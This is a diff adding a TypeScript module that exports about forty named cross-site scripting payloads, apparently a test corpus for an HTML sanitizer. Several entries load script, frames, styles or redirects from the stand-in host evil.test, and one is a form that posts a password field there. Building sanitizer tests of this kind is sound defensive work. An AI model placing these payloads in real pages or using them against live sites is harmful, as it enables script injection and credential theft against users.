@@ -1,0 +1,48 @@
+/** Spellings of "run this", each of which some browser or sanitizer once let through. */
+export const scriptAttacks: Readonly<Record<string, string>> = {
+  'a script': '<script>alert(1)</script>',
+  'a script of another site': '<script src=//evil.test/x.js></script>',
+  'a script in pieces': '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  'a script in capitals with a slash': '<SCRIPT/x>alert(1)</SCRIPT/x>',
+  'a module preloaded': '<link rel=modulepreload href=//evil.test/x.js>',
+  'a handler': '<img src=x onerror=alert(1)>',
+  'a handler behind a slash': '<img/src=x/onerror=alert(1)>',
+  'a handler behind a line end': '<p\nonclick\n=\nalert(1)>x</p>',
+  'a handler behind a NUL': '<p on\0click=alert(1)>x</p>',
+  'a handler without a closing bracket': '<p>x</p><img src=x onerror=alert(1) ',
+  'a handler of a drawing': '<svg onload=alert(1)><path d="M0 0"/></svg>',
+  'a handler of an animation': '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
+  'an animation of an address':
+    '<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>',
+  'a script of a drawing': '<svg><script href=data:,alert(1) /></svg>',
+  'HTML in a drawing': '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>',
+  'a drawing of another file':
+    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x"/></svg>',
+  'a link that runs': '<a href=javascript:alert(1)>x</a>',
+  'a link that runs, with a tab in it': '<a href="java\tscript:alert(1)">x</a>',
+  'a link that runs, written as characters': '<a href="&#106;&#97;vascript&colon;alert(1)">x</a>',
+  'a link that runs, behind a control character': '<a href="\u0001javascript:alert(1)">x</a>',
+  'a link of data': '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+  'an old link of a drawing': '<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>',
+  'a frame': '<iframe src=//evil.test></iframe>',
+  'a frame with its own page': '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  'an object': '<object data=//evil.test/x.swf></object><embed src=//evil.test/x>',
+  'a form that posts elsewhere':
+    '<form action=//evil.test method=post><input name=password><button formaction=javascript:alert(1)>x</button></form>',
+  'a meta that leads away': '<meta http-equiv=refresh content="0;url=//evil.test">',
+  'a base for all links': '<base href=//evil.test/>',
+  'a style that fetches': '<p style="background:url(javascript:alert(1))">x</p>',
+  'a style that imports': '<style>@import "//evil.test/x.css";</style>',
+  'a style with escapes': '<p style="background:\\75rl(//evil.test/x)">x</p>',
+  'words in mathematics that become markup':
+    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+  'words in a comment that become markup': '<!--><img src=x onerror=alert(1)>-->',
+  'words without script that become markup': '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+  'words of a template': '<template><img src=x onerror=alert(1)></template>',
+  'words of a field that become markup':
+    '<textarea><img src=x onerror=alert(1)></textarea><xmp><img src=x onerror=alert(1)></xmp>',
+  'a drawing whose style becomes markup': '<svg><style><img src="</style><img src=x onerror=alert(1)>"></svg>',
+  'a shadow root': '<div><template shadowrootmode=open><script>alert(1)</script></template></div>',
+  'a file that plays by itself': '<video autoplay onloadstart=alert(1) src=x></video>',
+  'the holder of the page itself': '<div id=easel-drawn data-easel-page=drawn>x</div>',
+};
